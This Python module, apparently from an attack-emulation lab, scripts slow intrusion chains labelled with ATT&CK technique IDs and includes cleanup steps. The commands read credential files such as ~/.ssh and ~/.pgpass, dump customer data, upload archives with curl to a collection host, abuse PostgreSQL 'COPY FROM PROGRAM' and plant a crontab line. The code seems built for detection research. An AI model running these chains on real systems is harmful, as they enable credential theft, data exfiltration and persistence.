"""Slow chains that use only what is there, with minutes between the steps."""

from foreseen.lab.accounts import forget_cron
from foreseen.lab.attacks.from_web import SHOP_SQL
from foreseen.lab.attacks.tools import Attack
from foreseen.lab.channels import Login, psql, request
from foreseen.lab.host import run
from foreseen.lab.layout import POOL
from foreseen.lab.themes import token
from foreseen.lab.workloads.ci import POOL_URL, submit

WAIT = (50.0, 120.0)
"""Seconds between two steps."""


def slow_web(attack: Attack) -> None:
    """A command through the shop every minute or two; nothing is dropped, nothing is fetched."""
    steps = (
        ("T1033", attack.choose("id", "whoami", "id -un")),
        ("T1083", attack.choose("ls -la conf", "ls /srv", "find . -name '*.env'")),
        ("T1552.001", attack.choose("cat conf/database.env", "grep PG conf/database.env")),
        ("T1005", f"psql {SHOP_SQL} -Atc 'table customers' | head -9"),
    )
    for technique, command in steps:
        attack.run.step(technique)
        attack.web(command)
        attack.pause(*WAIT)


def slow_session(attack: Attack) -> None:
    """One long session in which something is typed now and then."""
    copy = f"notes-{token(attack.rng, 5)}.tgz"
    login = attack.login(("alice", "bob", "ops")[attack.run.number % 3])
    home = f"/home/{login.user}/{copy}"
    attack.undo.append(lambda: _forget(home))
    for technique, line in (
        ("T1033", attack.choose("ls -la", "id; groups", "uptime; w")),
        ("T1083", attack.choose("cat ~/.ssh/config", "sudo ls -l /srv/shop /srv/db /srv/ci")),
        ("T1560.001", f"tar czf ~/{copy} ~/.ssh"),
        ("T1048.003", f"curl -fsS -T ~/{copy} {POOL_URL}/static/{copy}"),
    ):
        attack.run.step(technique)
        login.type(line, attack.rng.uniform(*WAIT))
    login.type(f"rm -f ~/{copy}", 0.5)
    login.close()


def _forget(path: str) -> None:
    run("rm", "-f", path, check=False)


def slow_logins(attack: Attack) -> None:
    """A short login for each step, minutes apart."""
    copy = f"{attack.choose('daily', 'orders', 'rows')}-{token(attack.rng, 4)}.sql.gz"
    attack.undo.append(lambda: _forget(f"/srv/db/import/{copy}"))
    dump = f"pg_dump {SHOP_SQL} -t customers | gzip > /srv/db/import/{copy}"
    for technique, line in (
        ("T1005", f"psql {SHOP_SQL} -Atc 'table customers' | wc -l"),
        ("T1552.001", "cat ~/.pgpass | cut -d: -f1-3"),
        ("T1560.001", dump),
        ("T1048.003", f"curl -fsS -T /srv/db/import/{copy} {POOL_URL}/backups/{copy}"),
    ):
        login: Login = attack.login("dbadmin")
        attack.run.step(technique)
        login.type(line, attack.rng.uniform(1, 3))
        login.close()
        attack.pause(*WAIT)


def slow_sql(attack: Attack) -> None:
    """The database server runs one harmless looking program at a time."""
    kept = f"/srv/db/import/{token(attack.rng, 7)}"
    attack.run.root("text", kept)
    attack.undo.append(lambda: _forget(kept))
    for technique, program in (
        ("T1033", f"id > {kept}; cat {kept}"),
        ("T1083", f"ls -l /srv/db > {kept}; cat {kept}"),
        ("T1560.001", f"gzip -c /srv/db/data/pg_hba.conf > {kept}; wc -c < {kept}"),
        ("T1048.003", f"curl -fsS -T {kept} {POOL_URL}/backups/{token(attack.rng, 6)}"),
    ):
        attack.run.step(technique)
        table = f"t{attack.rng.randint(10, 999)}"
        copy = f"copy {table} from program $p${program}$p$"
        psql("shop", "shop", f"create temp table {table}(x text); {copy}")
        attack.pause(*WAIT)


def slow_cron(attack: Attack) -> None:
    """A crontab line, written through the shop, leaves settings where the web finds them."""
    name = f"{token(attack.rng, 6)}.txt.gz"
    kept = f"/srv/shop/static/{name}"
    attack.undo.append(lambda: forget_cron("web", kept))
    attack.undo.append(lambda: _forget(kept))
    attack.run.step("T1053.003")
    attack.plant(kept, "T1053.003")
    line = f"*/2 * * * * gzip -c /srv/shop/conf/database.env > {kept}"
    attack.web(f"(crontab -l;echo '{line}') | crontab -")
    attack.pause(125, 150)
    attack.run.step("T1005")
    request(f"/static/{name}", ident=token(attack.rng, 12))
    attack.pause(1, 3)


def slow_builds(attack: Attack) -> None:
    """Three jobs, minutes apart; each does a third of the theft."""
    kept = f"/srv/ci/cache/{token(attack.rng, 7)}"
    archive = f"{token(attack.rng, 6)}.tar.gz"
    attack.undo.append(lambda: _forget(kept))
    attack.undo.append(lambda: (POOL / "artefacts" / archive).unlink(missing_ok=True))
    for technique, script in (
        ("T1083", f"find /home/ci -maxdepth 1 -name '.*rc' > {kept}"),
        ("T1560.001", f"tar czf {kept}.tgz -T {kept} 2> /dev/null"),
        ("T1048.003", f"curl -fsS -T {kept}.tgz {POOL_URL}/artefacts/{archive}; rm -f {kept}*"),
    ):
        name = f"{attack.choose('build', 'test', 'nightly')}-{attack.rng.randint(5000, 9000)}"
        attack.run.root("text", f"/srv/ci/work/{name}/job.sh")
        attack.run.step(technique)
        submit(name, f"{script}\n")
        attack.pause(*WAIT)
